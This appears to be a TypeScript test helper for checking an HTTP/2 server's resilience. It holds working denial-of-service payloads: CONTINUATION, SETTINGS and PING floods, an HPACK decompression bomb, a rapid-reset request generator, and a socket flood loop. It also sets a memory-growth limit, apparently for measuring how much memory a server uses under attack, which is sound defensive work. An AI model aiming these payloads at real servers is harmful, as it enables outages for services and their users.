// Floods and bombs of HTTP/2, for any port that speaks it: frames that cost their sender little, and who keeps them much.

import type { Socket } from "node:net";
import { bytes, END_HEADERS, END_STREAM, frame, GET_ROOT, get, streams } from "./frames.ts";

/** What resident memory may grow by, in bytes, by whichever of them, garbage and the attacker's own bytes included; 150
 * MiB: twice as much is what a flood that is kept would take. */
export const FLOOD_GROWTH_MAX = 150 * 1_024 * 1_024;

/** How a request begins whose headers go on in further frames. */
const HEADERS_BEGIN = frame("headers", END_STREAM, 1, GET_ROOT);

/** What comes first, once, and the part that then comes over and over. */
export interface Flood {
  readonly first: string;
  readonly part: string;
}

export const FLOODS = {
  /** A header line "x: y" a hundred times in each, without indexing. */
  headers: { first: HEADERS_BEGIN, part: frame("continuation", 0, 1, "\x00\x01x\x01y".repeat(100)) },
  "empty pieces of headers": { first: HEADERS_BEGIN, part: frame("continuation", 0, 1) },
  settings: { first: "", part: frame("settings", 0, 0, bytes(3, 2) + bytes(100, 4)) },
  pings: { first: "", part: frame("ping", 0, 0, "12345678") },
} as const satisfies Record<string, Flood>;

/** A header line of 3,900 bytes, which HPACK keeps in its table. */
const LONG_LINE = `\x40\x01x\x7f${String.fromCharCode(0x80 | ((3_900 - 127) & 0x7f), (3_900 - 127) >> 7)}${"y".repeat(3_900)}`;

/** A request with that line named by its place in the table, a byte each time, 4,000 times: 15 MB. */
export const HPACK_BOMB = frame(
  "headers",
  END_STREAM | END_HEADERS,
  1,
  GET_ROOT + LONG_LINE + "\xbe".repeat(4_000),
);

/** Requests, each of which is withdrawn at once. */
export function withdrawn(count: number): string {
  return [...streams(count)].map((id) => get(id) + frame("reset", 0, id, bytes(8, 4))).join("");
}

/** Sends a part over and over, `times` at most, as fast as it is taken, until the other side has closed. */
export async function flood(socket: Socket, part: string, times: number): Promise<void> {
  const bunch = part.repeat(Math.max(1, Math.floor(16_384 / part.length)));
  for (let sent = 0; sent < times * part.length && !socket.destroyed; sent += bunch.length) {
    if (!socket.write(bunch, "latin1"))
      await new Promise((resolve) => socket.once("drain", resolve).once("close", resolve));
  }
}
